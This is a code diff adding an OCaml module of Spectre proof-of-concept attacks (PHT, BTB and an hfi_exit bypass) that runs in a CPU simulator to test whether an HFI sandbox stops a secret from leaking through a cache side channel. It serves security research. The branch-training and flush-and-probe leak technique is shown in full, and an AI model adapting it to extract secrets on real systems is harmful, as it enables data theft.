@@ -1,0 +1,249 @@
+type kind = Pht | Btb | Exit_bypass
+
+let kind_name = function
+  | Pht -> "spectre-pht"
+  | Btb -> "spectre-btb"
+  | Exit_bypass -> "spectre-exit-bypass"
+
+type probe_result = {
+  latencies : int array;
+  hit_threshold : int;
+  leaked_byte : int option;
+}
+
+type outcome = {
+  secret_char : char;
+  unprotected : probe_result;
+  protected_ : probe_result;
+}
+
+let secret = "It's a s3kr3t!!!"
+
+(* Address-space layout. The application window is a 64 MiB
+   power-of-two region; the secret lives outside it, so the HFI
+   configuration grants the attacker-reachable data but not the
+   secret — exactly the SafeSide-with-HFI setup of §5.3. *)
+let code_base = 0x40_0000
+let code_size = 2 * 1024 * 1024
+let stack_base = 0x1000_0000
+let stack_size = 1024 * 1024
+let app_base = 0x4000_0000
+let app_size = 64 * 1024 * 1024
+let a1 = app_base + 0x10000 (* array1: 16 bytes *)
+let size_cell = app_base + 0x20000
+let fptr_cell = app_base + 0x20008
+let a2 = app_base + 0x100000 (* probe array: 256 x 4 KiB *)
+let secret_base = 0x800_0000
+
+let train_rounds = 40
+
+let code_region : Hfi_iface.region =
+  Hfi_iface.Implicit_code
+    { base_prefix = code_base; lsb_mask = code_size - 1; permission_exec = true }
+
+let stack_region : Hfi_iface.region =
+  Hfi_iface.Implicit_data
+    { base_prefix = stack_base; lsb_mask = stack_size - 1; permission_read = true; permission_write = true }
+
+let app_region : Hfi_iface.region =
+  Hfi_iface.Implicit_data
+    { base_prefix = app_base; lsb_mask = app_size - 1; permission_read = true; permission_write = true }
+
+(* The leak gadget: load a byte at [a1 + rdi], then touch the probe line
+   it selects. *)
+let emit_gadget_body b =
+  let open Instr in
+  let e = Program.Asm.emit b in
+  e (Load (W1, Reg.R8, Instr.mem ~index:Reg.RDI ~disp:a1 ()));
+  e (Alu (Shl, Reg.R8, Imm 12));
+  e (Load (W1, Reg.R9, Instr.mem ~index:Reg.R8 ~disp:a2 ()))
+
+let emit_flushes b =
+  let open Instr in
+  let e = Program.Asm.emit b in
+  for g = 0 to 255 do
+    e (Clflush (Instr.mem ~disp:(a2 + (g * 4096)) ()))
+  done;
+  e (Clflush (Instr.mem ~disp:size_cell ()))
+
+let emit_train_loop b ~call_label =
+  let open Instr in
+  let e = Program.Asm.emit b in
+  e (Mov (Reg.RCX, Imm 0));
+  Program.Asm.label b "train";
+  e (Mov (Reg.RDI, Reg Reg.RCX));
+  e (Alu (And, Reg.RDI, Imm 7));
+  Program.Asm.call b call_label;
+  e (Alu (Add, Reg.RCX, Imm 1));
+  e (Cmp (Reg.RCX, Imm train_rounds));
+  Program.Asm.jcc b Lt "train"
+
+let emit_hfi_setup b =
+  let open Instr in
+  let e = Program.Asm.emit b in
+  e (Hfi_set_region (0, code_region));
+  e (Hfi_set_region (2, app_region));
+  e (Hfi_set_region (3, stack_region));
+  e (Hfi_enter { Hfi_iface.default_hybrid_spec with is_serialized = true })
+
+let malicious_index ~byte_index = secret_base + byte_index - a1
+
+(* The SS3.4 attack on hfi_exit itself: the victim's in-bounds path
+   legitimately exits the sandbox to let the trusted runtime process the
+   checked index; a mispredicted bounds check transiently executes that
+   exit with a malicious index. If the sandbox entry was not serialized,
+   speculation continues past hfi_exit with HFI *disabled* and the
+   unchecked loads leak the secret; a serialized sandbox stops transient
+   execution at the exit. Both runs of this attack have HFI regions
+   installed — the protection knob is the is-serialized flag. *)
+let build_exit_bypass ~serialized ~byte_index =
+  let b = Program.Asm.create () in
+  let open Instr in
+  let e = Program.Asm.emit b in
+  Program.Asm.jmp b "main";
+  Program.Asm.label b "victim";
+  e (Cmp_mem (Reg.RDI, Instr.mem ~disp:size_cell ()));
+  Program.Asm.jcc b Uge "victim_out";
+  (* in-bounds path: hand the checked index to the (unsandboxed) host *)
+  e Hfi_exit;
+  emit_gadget_body b;
+  e Hfi_reenter;
+  Program.Asm.label b "victim_out";
+  e Ret;
+  Program.Asm.label b "main";
+  e (Hfi_set_region (0, code_region));
+  e (Hfi_set_region (2, app_region));
+  e (Hfi_set_region (3, stack_region));
+  e (Hfi_enter { Hfi_iface.default_hybrid_spec with is_serialized = serialized });
+  emit_train_loop b ~call_label:"victim";
+  emit_flushes b;
+  e (Mov (Reg.RDI, Imm (malicious_index ~byte_index)));
+  Program.Asm.call b "victim";
+  e Hfi_exit;
+  e Halt;
+  Program.Asm.assemble b
+
+(* The PHT victim: a bounds check the attacker trains in-bounds. *)
+let build_pht ~protected ~byte_index =
+  let b = Program.Asm.create () in
+  let open Instr in
+  let e = Program.Asm.emit b in
+  Program.Asm.jmp b "main";
+  Program.Asm.label b "victim";
+  e (Cmp_mem (Reg.RDI, Instr.mem ~disp:size_cell ()));
+  Program.Asm.jcc b Uge "victim_out";
+  emit_gadget_body b;
+  Program.Asm.label b "victim_out";
+  e Ret;
+  Program.Asm.label b "main";
+  if protected then emit_hfi_setup b;
+  emit_train_loop b ~call_label:"victim";
+  emit_flushes b;
+  e (Mov (Reg.RDI, Imm (malicious_index ~byte_index)));
+  Program.Asm.call b "victim";
+  if protected then e Hfi_exit;
+  e Halt;
+  Program.Asm.assemble b
+
+(* The BTB victim: an indirect dispatch whose BTB entry the attacker
+   trains to the gadget before repointing it at a benign function. *)
+let build_btb_once ~protected ~byte_index ~gadget_addr ~benign_addr =
+  let b = Program.Asm.create () in
+  let open Instr in
+  let e = Program.Asm.emit b in
+  Program.Asm.jmp b "main";
+  Program.Asm.label b "gadget";
+  emit_gadget_body b;
+  e Ret;
+  Program.Asm.label b "benign";
+  e (Mov (Reg.R10, Imm 1));
+  e Ret;
+  Program.Asm.label b "dispatch";
+  e (Load (W8, Reg.RBX, Instr.mem ~disp:fptr_cell ()));
+  e (Call_ind Reg.RBX);
+  e Ret;
+  Program.Asm.label b "main";
+  if protected then emit_hfi_setup b;
+  (* Train the BTB: dispatch architecturally calls the gadget. *)
+  e (Mov (Reg.RDX, Imm gadget_addr));
+  e (Store (W8, Instr.mem ~disp:fptr_cell (), Reg Reg.RDX));
+  emit_train_loop b ~call_label:"dispatch";
+  (* Re-point dispatch at the benign target; the BTB still says gadget. *)
+  e (Mov (Reg.RDX, Imm benign_addr));
+  e (Store (W8, Instr.mem ~disp:fptr_cell (), Reg Reg.RDX));
+  emit_flushes b;
+  e (Mov (Reg.RDI, Imm (malicious_index ~byte_index)));
+  Program.Asm.call b "dispatch";
+  if protected then e Hfi_exit;
+  e Halt;
+  (b, Program.Asm.assemble b)
+
+let build_btb ~protected ~byte_index =
+  (* Two passes: the first resolves label byte addresses with
+     width-stable placeholder immediates, the second plugs them in. *)
+  let placeholder = 0x7fffffff in
+  let b1, p1 = build_btb_once ~protected ~byte_index ~gadget_addr:placeholder ~benign_addr:placeholder in
+  let addr_of name = code_base + Program.byte_offset p1 (Program.Asm.label_index p1 b1 name) in
+  let _, p2 =
+    build_btb_once ~protected ~byte_index ~gadget_addr:(addr_of "gadget")
+      ~benign_addr:(addr_of "benign")
+  in
+  p2
+
+let make_machine prog =
+  let mem = Addr_space.create () in
+  let kernel = Kernel.create mem in
+  let hfi = Hfi.create () in
+  Addr_space.mmap mem ~addr:code_base ~len:code_size Perm.rx;
+  Addr_space.mmap mem ~addr:stack_base ~len:stack_size Perm.rw;
+  Addr_space.mmap mem ~addr:app_base ~len:app_size Perm.rw;
+  Addr_space.mmap mem ~addr:secret_base ~len:4096 Perm.rw;
+  (* Host state: array1, its size, and the secret. *)
+  for k = 0 to 15 do
+    Addr_space.poke mem ~addr:(a1 + k) ~bytes:1 (k + 1)
+  done;
+  Addr_space.poke mem ~addr:size_cell ~bytes:8 8;
+  Addr_space.blit_in mem ~addr:secret_base secret;
+  let m = Machine.create ~prog ~code_base ~mem ~kernel ~hfi ~entry:0 () in
+  Machine.set_reg m Reg.RSP (stack_base + stack_size - 4096);
+  m
+
+let run_one kind ~protected ~byte_index =
+  let prog =
+    match kind with
+    | Pht -> build_pht ~protected ~byte_index
+    | Btb -> build_btb ~protected ~byte_index
+    | Exit_bypass -> build_exit_bypass ~serialized:protected ~byte_index
+  in
+  let m = make_machine prog in
+  let e = Cycle_engine.create m in
+  (match Cycle_engine.run ~fuel:10_000_000 e with
+  | Machine.Halted -> ()
+  | Machine.Faulted r -> failwith ("spectre PoC faulted: " ^ Msr.to_string r)
+  | Machine.Running -> failwith "spectre PoC did not halt");
+  e
+
+let probe_of_engine e =
+  let dcache = Cycle_engine.dcache e in
+  let hit = Cache.skylake_l1d.Cache.hit_latency in
+  let miss = Cache.skylake_l1d.Cache.miss_latency in
+  let threshold = (hit + miss) / 2 in
+  let latencies =
+    Array.init 256 (fun g -> if Cache.probe dcache (a2 + (g * 4096)) then hit else miss)
+  in
+  let leaked =
+    let hits = List.filter (fun g -> latencies.(g) < threshold) (List.init 256 Fun.id) in
+    match hits with [ g ] -> Some g | _ -> None
+  in
+  { latencies; hit_threshold = threshold; leaked_byte = leaked }
+
+let run ?(byte_index = 0) kind =
+  let unprotected = probe_of_engine (run_one kind ~protected:false ~byte_index) in
+  let protected_ = probe_of_engine (run_one kind ~protected:true ~byte_index) in
+  { secret_char = secret.[byte_index]; unprotected; protected_ }
+
+let attack_succeeded r ~expected = r.leaked_byte = Some (Char.code expected)
+
+let transient_instructions kind ~protected =
+  let e = run_one kind ~protected ~byte_index:0 in
+  (Cycle_engine.result e).Cycle_engine.transient_instrs
